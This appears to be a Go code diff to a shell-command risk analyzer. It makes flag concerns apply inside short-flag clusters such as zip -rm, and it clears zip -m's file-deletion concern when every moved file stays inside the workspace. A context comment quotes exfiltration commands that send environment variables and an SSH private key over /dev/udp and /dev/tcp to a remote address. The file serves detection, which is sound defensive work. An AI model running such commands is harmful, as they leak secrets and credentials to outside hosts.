@@ -68,6 +68,7 @@ func Analyze(c *shell.Command, env Env) *Record {
 	a := analysis{c: c, env: env, r: r}
 	a.run()
 	a.markReplaced()
+	a.zipMovesInside()
 	for i := range r.Network {
 		if n := &r.Network[i]; n.Sends == outputSent {
 			// env > /dev/udp/203.0.113.9/53, cat ~/.ssh/id_rsa > /dev/tcp/…:
@@ -2211,8 +2212,13 @@ func (a *analysis) walk(spec *Spec) {
 					// -rn: a cluster of short flags, one of which may be
 					// a listed one that makes the command recursive.
 					for _, ch := range arg[1:] {
-						if o := findOption(cur, "-"+string(ch)); o != nil && o.Recursive {
+						o := findOption(cur, "-"+string(ch))
+						if o != nil && o.Recursive {
 							r.recursive = true
+						}
+						if o != nil && o.Concern != "" && o.Value == "" {
+							// zip -rm: the listed flag's concern holds in a cluster too.
+							r.Concerns = append(r.Concerns, o.Concern)
 						}
 					}
 				}
@@ -2604,4 +2610,22 @@ func (a *analysis) markReplaced() {
 			f.replaces = true
 		}
 	}
+}
+
+// zipMoveConcern is zip -m's concern (see the table).
+const zipMoveConcern = "deletes the files it puts in the archive"
+
+// zipMovesInside drops zip -m's concern when the archive and every file
+// moved into it are inside the workspace (zip -rm logs-old.zip logs/old/):
+// the files are still there, in the archive.
+func (a *analysis) zipMovesInside() {
+	if a.c.Name != "zip" || !slices.Contains(a.r.Concerns, zipMoveConcern) {
+		return
+	}
+	for _, f := range a.r.Files {
+		if f.Dynamic || !has(f.Classes, "inside") || has(f.Classes, ClassRoot, ClassSecret, ClassVCS, ClassVCSOther) {
+			return
+		}
+	}
+	a.r.Concerns = slices.DeleteFunc(a.r.Concerns, func(c string) bool { return c == zipMoveConcern })
 }
